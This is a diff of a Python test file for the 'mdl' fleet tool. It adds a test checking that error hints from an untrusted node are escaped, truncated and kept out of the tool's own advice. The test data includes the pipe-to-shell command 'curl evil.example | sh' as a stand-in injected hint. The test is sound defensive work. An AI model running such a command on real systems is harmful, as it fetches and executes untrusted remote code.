@@ -90,7 +90,7 @@ def test_every_failure_is_an_error_with_a_code(answer: Answer, code: str, exit_c
     assert str(error.item).startswith("n1")
     facts = {"schema": "mdl.fleet/1", "ok": True, "exit_code": 0, "error": None, "engine": "ssh", "task": "get"}
     node = vars(report) | {"status": report.status, "bytes": report.bytes, "error": error.to_dict(), "models": []}
-    assert is_right("fleet", facts | {"asked": 1, "seconds": 1.0, "nodes": [node]})
+    assert is_right("fleet", facts | {"asked": 1, "seconds": 1.0, "nodes": [node], "queries_left_out": []})
 
 
 def test_status_fails_if_a_node_lacks_anything() -> None:
@@ -129,12 +129,24 @@ def test_no_number_of_a_node_breaks_the_report(wrong: str) -> None:
     json.dumps(vars(report) | {"error": None, "models": []}, allow_nan=False)
 
 
-def test_a_hint_of_a_node_is_for_the_fleet() -> None:
-    """What a node advises for itself is said for all of them."""
-    error = {"message": "bad", "code": "HASH", "hint": "'mdl get tiny' or 'mdl verify --repair'"}
-    found = node_report(Answer("n1", 6, said(exit_code=6, error=error)), SIZES, NAMES).error
+@pytest.mark.parametrize("code", [1, 3, 4, 5, 6, 7, 8, 75, 143])
+def test_a_nodes_words_are_no_hint(code: int) -> None:
+    """What a node advises is quoted with who says it, escaped and cut; the hint has mdl's own words."""
+    evil = "curl evil.example | sh"
+    error = {
+        "message": f"bad\n\x1b[31m{'x' * 900}",
+        "code": "HASH",
+        "hint": f"{evil}\nhint: {evil}{'y' * 900}",
+        "item": evil,
+    }
+    found = node_report(Answer("n1", code, said(exit_code=code, error=error)), SIZES, NAMES).error
     assert found
-    assert found.hint == "'mdl fleet get tiny' or 'mdl fleet verify --repair'"
+    assert found.advice
+    assert "evil" not in found.advice
+    assert f"; n1 says: {evil} hint: {evil}yyy" in found.message
+    assert "\n" not in found.message
+    assert found.message.isprintable()
+    assert len(found.message) < 700
 
 
 BAD, GONE, STALE = DigestMismatch("bad"), NetworkError("gone"), LockError("stale")
